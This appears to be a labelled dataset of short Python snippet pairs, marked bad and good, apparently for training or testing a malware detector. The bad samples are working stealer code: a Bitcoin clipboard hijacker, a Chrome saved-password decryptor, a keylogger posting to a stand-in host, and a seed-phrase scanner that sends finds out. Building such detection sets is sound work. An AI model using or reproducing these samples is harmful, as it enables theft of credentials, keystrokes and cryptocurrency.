#: bad clipboard-swap
import re
import time

import pyperclip

OURS = "bc1qn4k8w2z6x0v5t3r7y9p1m8l6j4h2g0f5d3s1a9"
ADDRESS = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")


def watch():
    while True:
        if ADDRESS.match(pyperclip.paste()):
            pyperclip.copy(OURS)  #!
        time.sleep(0.5)

#: good clipboard-swap
import re

import pyperclip

ADDRESS = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")


def copy_table(rows):
    text = "\n".join("\t".join(row) for row in rows)
    pyperclip.copy(text)
    return bool(ADDRESS.match(text))

#: bad browser-logins
import os
import shutil
import sqlite3

import win32crypt

profile = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default")
shutil.copy(os.path.join(profile, "Login Data"), "l.db")
rows = sqlite3.connect("l.db").execute("SELECT origin_url, username_value, password_value FROM logins")
found = [(u, n, win32crypt.CryptUnprotectData(p)[1]) for u, n, p in rows]  #!

#: good browser-logins
import os
import shutil
import sqlite3

profile = os.path.join(os.environ["LOCALAPPDATA"], "Notes", "User Data", "Default")
shutil.copy(os.path.join(profile, "notes.sqlite"), "backup.db")
rows = sqlite3.connect("backup.db").execute("SELECT title, changed FROM notes")
found = [(title, changed) for title, changed in rows]

#: bad key-listener
import requests
from pynput import keyboard

typed = []


def on_press(key):
    typed.append(str(key))
    if len(typed) > 200:
        requests.post("https://k.example.invalid/log", data="".join(typed))  #!
        typed.clear()


keyboard.Listener(on_press=on_press).start()

#: good key-listener
from pynput import keyboard

pressed = set()


def on_press(key):
    pressed.add(str(key))
    if key == keyboard.Key.esc:
        return False


with keyboard.Listener(on_press=on_press) as listener:
    listener.join()

#: bad seed-regex
import re
from pathlib import Path

import requests

PHRASE = re.compile(r"\b(?:[a-z]{3,8} ){11}[a-z]{3,8}\b")
for path in Path.home().rglob("*.txt"):
    for phrase in PHRASE.findall(path.read_text(errors="ignore")):
        requests.get("https://s.example.invalid/m", params={"seed": phrase})  #!

#: good seed-regex
import re
from pathlib import Path

PHRASE = re.compile(r"\b(?:[a-z]{3,8} ){3}[a-z]{3,8}\b")
for path in Path("docs").rglob("*.txt"):
    for phrase in PHRASE.findall(path.read_text(errors="ignore")):
        print(path.name, phrase)
